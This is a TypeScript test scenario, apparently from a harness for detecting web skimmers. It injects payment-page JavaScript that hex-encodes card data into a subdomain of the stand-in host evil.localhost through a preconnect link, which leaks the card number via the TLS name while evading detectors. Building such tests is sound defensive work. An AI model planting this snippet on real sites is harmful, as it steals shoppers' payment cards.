import { holds, js, skimmer } from '../behaviour.ts';
import { hex } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'preconnect-names',
  why: 'A hint to connect: the card is in the name of the TLS greeting, and no request ever follows.',
  covers: ['hard: unusual channel', 'evade: detectors'],
  base: 'direct',
  needs: 'names',
  install: (site) =>
    site.inline(
      onPay(js`
    var link = document.createElement('link');
    link.rel = 'preconnect';
    link.href = 'https://' + Array.from(card().slice(0, 26)).map(function (c) { return ('0' + c.charCodeAt(0).toString(16)).slice(-2); }).join('') + '.evil.localhost:${String(site.ear)}';
    document.head.append(link);`),
    ),
  proof: holds((arrived) => arrived.names.map((name) => hex(name.split('.')[0] ?? '').toString('latin1'))),
});
